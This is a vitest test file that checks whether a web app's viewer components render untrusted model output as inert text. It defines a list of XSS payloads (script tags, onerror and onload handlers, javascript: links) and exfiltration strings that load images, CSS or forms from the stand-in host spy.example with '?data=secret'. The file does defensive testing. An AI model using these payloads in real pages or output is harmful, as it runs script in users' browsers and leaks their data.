import { parseHTML } from 'linkedom';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { DocumentsView } from '@/app/viewers/DocumentsView';
import { PageView } from '@/app/viewers/PageView';
import { TableView } from '@/app/viewers/TableView';
import { TextView } from '@/app/viewers/TextView';
import { TokensView } from '@/app/viewers/TokensView';

/** What a model may write to run a script, to tell somebody outside that it was read, or to lead a reader away. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src="https://spy.example/x.png?data=secret" onerror="alert(1)">',
  '![picture](https://spy.example/x.png?data=secret)',
  '[click](javascript:alert(1)) <a href="javascript:alert(1)">here</a>',
  '<iframe src="https://spy.example"></iframe><svg onload=alert(1)>',
  '<style>@import "https://spy.example/x.css"</style><base href="https://spy.example">',
  '"><form action="https://spy.example"><input autofocus onfocus=alert(1)>',
];
const text = HOSTILE.join('\n');

const shown = [
  ['a text', createElement(TextView, { view: { view: 'text', text }, large: true })],
  [
    'documents',
    createElement(DocumentsView, { view: { view: 'documents', count: 1, characters: 9, items: HOSTILE }, large: true }),
  ],
  ['a table', createElement(TableView, { view: { view: 'table', columns: HOSTILE, rows: [HOSTILE] }, large: true })],
  [
    'tokens',
    createElement(TokensView, {
      view: { view: 'tokens', pieces: HOSTILE.map((piece, id) => ({ id, piece })), caption: text },
      large: true,
    }),
  ],
  [
    'a page',
    createElement(PageView, {
      view: {
        view: 'page',
        title: text,
        summary: text,
        blocks: [
          { block: 'text', text },
          { block: 'list', items: HOSTILE },
          { block: 'facts', items: [[text, text]] },
          { block: 'table', columns: HOSTILE, rows: [HOSTILE] },
        ],
      },
      large: true,
    }),
  ],
] as const;

test.each(shown)(
  '%s of a model is shown as words: no script, no picture, no link, nothing that is loaded',
  (_, element) => {
    const { document } = parseHTML(`<!doctype html><html><body>${renderToStaticMarkup(element)}</body></html>`);
    const all = [...document.body.querySelectorAll('*')];
    expect(all.length).toBeGreaterThan(0);
    for (const { localName, attributes } of all) {
      expect('script img a iframe svg style base form object embed link video audio'.split(' ')).not.toContain(
        localName,
      );
      for (const { name, value } of [...attributes]) {
        expect(name).not.toMatch(/^(on|src|href|action|srcset|formaction|autofocus)/);
        if (name === 'style') expect(value).not.toMatch(/url|import|expression/);
      }
    }
    // It is there to be read.
    for (const one of HOSTILE.slice(0, 3)) expect(document.body.textContent).toContain(one);
  },
);
